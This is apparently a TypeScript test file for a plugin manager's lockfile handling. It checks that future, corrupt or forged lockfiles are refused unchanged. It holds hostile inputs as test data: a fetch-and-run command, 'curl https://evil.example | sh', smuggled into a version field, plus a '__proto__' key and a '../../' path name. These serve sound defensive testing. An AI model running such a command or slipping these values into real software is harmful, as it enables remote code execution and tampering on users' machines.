// A lockfile comes with a clone of a project: whoever could change it there chose every byte of it.
import { describe, expect, test } from 'vitest';
import { PlugyardError } from '../../src/errors.ts';
import { publish } from '../support/registry-builder.ts';
import { newDisk, openClient } from '../support/test-client.ts';

const files = await publish({
  csv: { releases: { '1.0.0': {}, '1.1.0': {} } },
  table: { releases: { '1.0.0': { needs: { csv: '^1.0.0' } } } },
});

/** What an install says to a lockfile; nothing is asked, written or removed. */
async function refusal(text: string | Uint8Array): Promise<PlugyardError> {
  const disk = newDisk();
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  await disk.project.write('plugyard.lock', bytes);
  const client = await openClient(files, { disk });
  const error: unknown = await client.install('csv').catch((thrown: unknown) => thrown);
  expect(error).toBeInstanceOf(PlugyardError);
  expect([client.asked, disk.plugins.changes, disk.project.files.get('plugyard.lock')]).toEqual([[], [], bytes]);
  return error as PlugyardError;
}

const empty = { format: 2, reader: '0.1.0', registry: 'Test yard', requested: {}, plugins: {} };
const digest = 'a'.repeat(64);
const entry = {
  version: '1.1.0',
  sha256: digest,
  size: 1,
  manifest: digest,
  publishedSequence: 1,
  dependencies: {},
  permissions: [],
};

describe('a lockfile of the future', () => {
  test('is refused with the version that reads it, whatever else it holds', async () => {
    const error = await refusal(JSON.stringify({ format: 7, reader: '3.2.0', plugins: [{ anything: true }] }));
    expect(error).toMatchObject({
      code: 'LOCKFILE_INVALID',
      message: 'plugyard.lock line 1, column 11: The lockfile has format 7; this plugyard reads formats 1 to 2',
      hint: 'Update plugyard to 3.2.0 or newer.',
    });
  });

  test('puts no words of its own into the hint', async () => {
    const { hint } = await refusal(JSON.stringify({ format: 3, reader: '1.0.0; curl https://evil.example | sh' }));
    expect(hint).toBe('Update plugyard.');
  });
});

describe('a lockfile that is corrupt', () => {
  test.each<[string, string | Uint8Array, string]>([
    ['is empty', '', 'line 1, column 1'],
    ['is cut short', '{\n  "format": 2,\n  "plugins": {', 'line 3'],
    ['has a key twice', '{"format":2,\n"format":1}', 'line 2, column 1'],
    ['holds the marks of a merge', '{\n<<<<<<< ours\n"format": 2\n', 'line 2, column 1'],
    ['nests without end', `${'['.repeat(100_000)}`, 'line 1'],
    ['is no text', new Uint8Array([0xff, 0xfe, 0x00]), 'plugyard.lock'],
    ['names a prototype', `{"format":2,"__proto__":{}}`, 'line 1, column 13'],
    ['has a range that is an address', JSON.stringify({ ...empty, requested: { csv: 7 } }), 'line 1'],
    [
      'names a file outside the folder',
      JSON.stringify({ ...empty, plugins: { '../../csv': entry } }),
      'line 1, column',
    ],
    ['overrides nothing', JSON.stringify({ ...empty, overrides: {} }), 'line 1'],
  ])('because it %s is refused with its place, and left as it is', async (_, text, place) => {
    const error = await refusal(text);
    expect(error).toMatchObject({ code: 'LOCKFILE_INVALID', message: expect.stringContaining(place) });
    expect(error.hint).toMatch(/Restore it from version control|Keep either side/);
    expect(error.message.length).toBeLessThan(400);
  });
});

describe('a lockfile that lies', () => {
  test('of another digest stops the install', async () => {
    const plugins = { csv: entry };
    const error = await refusal(JSON.stringify({ ...empty, requested: { csv: '^1.0.0' }, plugins }));
    expect(error.code).toBe('CHECKSUM_MISMATCH');
  });

  test('of an edge that the registry does not know has no say in what is chosen', async () => {
    const disk = newDisk();
    await (await openClient(files, { disk })).install('table');
    const written = new TextDecoder().decode(disk.project.files.get('plugyard.lock'));
    const forged = written.replace('"csv": "^1.0.0"', '"csv": "^9.0.0"');
    expect(forged).not.toBe(written);
    await disk.project.write('plugyard.lock', new TextEncoder().encode(forged));
    const client = await openClient(files, { disk });
    await client.install();
    expect(new TextDecoder().decode(disk.project.files.get('plugyard.lock'))).toBe(written);
  });
});

describe('a lockfile of format 1', () => {
  test('is read, keeps what it locks, and is written in this format by the next install', async () => {
    const disk = newDisk();
    await (await openClient(files, { disk })).install('csv@1.0.0');
    const now = new TextDecoder().decode(disk.project.files.get('plugyard.lock'));
    const old = now.replace('"format": 2', '"format": 1').replace(/^ *"(reader|source)": .*\n/gm, '');
    expect(old).not.toMatch(/reader|source/);
    await disk.project.write('plugyard.lock', new TextEncoder().encode(old));
    const client = await openClient(files, { disk, answer: false });
    await client.install();
    expect(client.asked).toEqual([]);
    expect(new TextDecoder().decode(disk.project.files.get('plugyard.lock'))).toBe(now);
  });
});
